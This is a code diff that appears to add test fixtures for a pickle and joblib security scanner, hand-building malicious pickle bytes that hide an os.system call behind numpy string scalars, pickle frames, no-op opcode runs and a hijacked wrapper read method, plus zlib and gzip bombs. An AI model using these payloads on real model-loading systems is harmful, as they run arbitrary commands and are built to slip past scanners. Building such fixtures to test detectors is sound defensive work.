@@ -146,8 +146,24 @@ def _gadgets() -> dict[str, bytes]:
         "pickle vectorizer that reads files": op(
             b"\x80\x02csklearn.feature_extraction.text\nTfidfVectorizer\n)\x81}", text("input"), text("filename"), b"sb."
         ),
+        "pickle pipeline with a memory, as a text of numpy": op(
+            b"\x80\x02csklearn.pipeline\nPipeline\n)\x81}", text("memory"), _numpy_text("/tmp/cache"), b"sb."
+        ),
+        "pickle vectorizer that reads files, as a text of numpy": op(
+            b"\x80\x02csklearn.feature_extraction.text\nCountVectorizer\n)\x81}",
+            text("input"),
+            _numpy_text("filename"),
+            b"sb.",
+        ),
         "pickle tree that leads out of itself": _tree(),
     }  # fmt: skip
+
+
+def _numpy_text(value: str) -> bytes:
+    """``numpy.str_``, which is a ``str`` to whoever asks."""
+    raw = value.encode("utf-32-le")
+    dtype = op(b"cnumpy\ndtype\n(", text(f"<U{len(value)}"), b"\x89\x88tR")
+    return op(b"cnumpy._core.multiarray\nscalar\n", dtype, b"B", struct.pack("<I", len(raw)), raw, b"\x86R")
 
 
 def _tree() -> bytes:
@@ -241,6 +257,12 @@ def _joblib() -> dict[str, bytes]:
         "joblib whose array is opcodes after a million others": _wrapped(b"N0" * 250_000 + hidden, padding=None),
         "joblib whose array is opcodes to an old joblib": _wrapped(bytes(15) + tail, padding=b"\xff" * 16),
         "joblib with something in its padding": _wrapped(bytes(32), padding=hidden[:16]),
+        "joblib whose array lies in a frame, its loader's behind it": _framed(),
+        "joblib whose wrapper reads in its own way": _misread(),
+        **{
+            f"joblib whose array is opcodes after {what}": _wrapped(skipped + hidden, padding=None)
+            for what, skipped in _IDLE.items()
+        },
         "joblib of lz4": b"\x04\x22\x4d\x18" + bytes(20),
         "joblib bomb, zlib": zlib.compress(bytes(34 << 20), 9),
         "joblib bomb, gzip": gzip.compress(bytes(34 << 20), 9),
@@ -262,6 +284,47 @@ def _wrapped(data: bytes, *, padding: bytes | None, inside: bytes = b"") -> byte
         del wrapper.__dict__["numpy_array_alignment_bytes"]
     raw = pickle.dumps(wrapper, protocol=2)[:-1]
     return raw + inside + (b"" if padding is None else bytes([len(padding)]) + padding) + data + b"."
+
+
+_IDLE = {
+    "a float with a NUL": b"F1.0\0x\n0",
+    "a list that gets no attributes": b"]Nb0",
+    "a list that gets empty slots": b"]N}\x86b0",
+    "nothing appended to None": b"N(e0",
+    "nothing set in None": b"N(u0",
+    "nothing added to None": b"N(\x900",
+    "a byte appended to a bytearray": b"cbuiltins\nbytearray\n(S'a'\nS'latin-1'\ntRK\x01a0",
+    "named arguments in an OrderedDict": b"cbuiltins\nlist\n)ccollections\nOrderedDict\n)R\x920",
+}
+"""Opcodes that look as if no loader would go on after them, and it does."""
+
+
+def _raw_wrapper(length: int, **more: bytes) -> bytes:
+    """Up to the BUILD of an array of ``length`` bytes, which joblib then reads."""
+    number = b"cnumpy\ndtype\n(" + text("u1") + b"\x89\x88tR"
+    shape = b"J" + struct.pack("<i", length) + b"\x85"
+    state = {
+        "subclass": b"cnumpy\nndarray\n",
+        "shape": shape,
+        "order": text("C"),
+        "dtype": number,
+        "allow_mmap": b"\x89",
+    } | more
+    pairs = b"".join(text(name) + value for name, value in state.items())
+    return b"cjoblib.numpy_pickle\nNumpyArrayWrapper\n)\x81}(" + pairs + b"ub"
+
+
+def _framed() -> bytes:
+    """joblib has read the frame into memory: the array is what follows the frame, and the rest of the frame is opcodes."""
+    evil = b"A" * 8 + b"cos\nsystem\n" + text(ECHO) + b"\x85R."
+    frame = _raw_wrapper(10) + b"N0" * 5
+    return b"\x80\x04\x95" + struct.pack("<Q", len(frame)) + frame + b"C" + bytes([len(evil)]) + evil + b"0."
+
+
+def _misread() -> bytes:
+    """``read`` is a method of the wrapper. ``slice`` takes its two arguments, and reads nothing."""
+    inner = b"0" + _raw_wrapper(2) + b"\xff\xff" + call("os", "system", text(ECHO), protocol=0)
+    return b"\x80\x04" + _raw_wrapper(len(inner), read=b"cbuiltins\nslice\n") + inner + b"."
 
 
 def pickle_attacks() -> dict[str, bytes]:
